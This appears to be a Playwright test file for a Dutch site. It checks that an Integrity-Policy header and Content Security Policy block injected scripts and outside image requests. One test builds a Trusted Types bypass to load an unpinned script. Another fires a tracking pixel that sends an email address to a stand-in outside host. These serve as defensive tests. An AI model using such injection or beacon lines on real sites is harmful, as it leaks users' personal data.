import { expect, test } from 'playwright/test';

test('runs no script that the page does not pin, where nobody else’s scripts belong', async ({ page }) => {
  const answer = await page.goto('/inloggen/');
  expect(answer?.headers()['integrity-policy']).toContain('blocked-destinations=(script)');
  await expect(page.locator('[data-widget-state="mounted"]').first()).toBeAttached();
  const outcome = await page.evaluate(() => {
    const script = document.createElement('script');
    const { trustedTypes } = window as unknown as {
      trustedTypes: {
        createPolicy: (name: string, rules: object) => { createScriptURL: (address: string) => string };
      };
    };
    script.src = trustedTypes
      .createPolicy('dompurify', { createScriptURL: (address: string) => address })
      .createScriptURL('/static/measuring.js');
    document.head.append(script);
    return new Promise((resolve) => {
      script.onload = () => resolve('ran');
      script.onerror = () => resolve('refused');
    });
  });
  expect(outcome).toBe('refused');
});

test('shows what the browser refused on the page of reports', async ({ page }) => {
  await page.goto('/features/reports.html');
  await page.evaluate(() => {
    new Image().src = 'https://elders.example/pixel.gif?email=jan@voorbeeld.nl';
  });
  const log = page.getByRole('log', { name: 'Meldingen van de browser' });
  await expect(log).toContainText('effectiveDirective: img-src');
  await expect(log).toContainText('blockedURL: https://elders.example/pixel.gif');
  await expect(log).not.toContainText('jan@');
});
